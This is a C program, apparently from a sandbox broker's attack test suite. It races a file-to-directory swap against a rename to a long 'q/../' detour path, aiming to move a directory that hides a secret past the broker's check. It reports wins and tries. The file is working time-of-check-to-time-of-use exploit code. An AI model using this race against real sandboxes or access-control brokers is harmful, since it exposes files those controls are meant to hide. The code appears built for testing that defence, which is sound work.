/*
 * rename MILLISECONDS FOLDER [ENOUGH]
 *
 * FOLDER/b may be written, and FOLDER/b/secret is hidden: a file at b may be renamed, a directory may not, since it would take along what is hidden
 * in it. One thread renames b, a file, to a name that takes long to resolve; another makes it a directory meanwhile. A win is a directory that
 * was renamed: the broker looked at a file then. Prints "wins N tries M". Stops early after ENOUGH wins.
 */
#include "attack.h"

#include <limits.h>
#include <pthread.h>

#define DETOURS 100
#define DELAYS 8
#define DELAY_NSEC 400000

static _Atomic long round_begun;
static _Atomic bool stop;

/* Some time after the call has begun: later and later, then soon again. */
static void *turn(void *unused) {
        for (long done = 0; !stop;) {
                long now = round_begun;
                if (now == done)
                        continue;
                done = now;
                nanosleep(&(struct timespec) { .tv_nsec = now % DELAYS * DELAY_NSEC }, NULL);
                unlink("b");
                mkdir("b", 0700);
        }
        return unused;
}

static void clear(const char *name) {
        unlink(name);
        rmdir(name);
}

static bool try_once(const char *name) {
        struct stat st;

        clear("b");
        int fd = open("b", O_CREAT | O_WRONLY, 0600);
        if (fd >= 0)
                close(fd);
        round_begun++;
        bool won = rename("b", name) == 0 && lstat("moved", &st) == 0 && S_ISDIR(st.st_mode);
        clear("moved");
        return won;
}

int main(int argc, char **argv) {
        char name[DETOURS * 5 + 16] = "";
        long wins = 0, tries = 0;
        pthread_t thread;

        if (argc < 3 || chdir(argv[2]) < 0 || (mkdir("q", 0700) < 0 && errno != EEXIST))
                attack_die("usage: rename MILLISECONDS FOLDER [ENOUGH]");
        for (int i = 0; i < DETOURS; i++)
                strcat(name, "q/../");
        strcat(name, "moved");
        if (pthread_create(&thread, NULL, turn, NULL) != 0)
                attack_die("a thread");
        uint64_t end = attack_now() + (uint64_t) atol(argv[1]);
        long enough = argc > 3 ? atol(argv[3]) : LONG_MAX;
        for (; attack_now() < end && wins < enough; tries++)
                wins += try_once(name);
        stop = true;
        pthread_join(thread, NULL);
        printf("wins %ld tries %ld\n", wins, tries);
        return wins > 0;
}
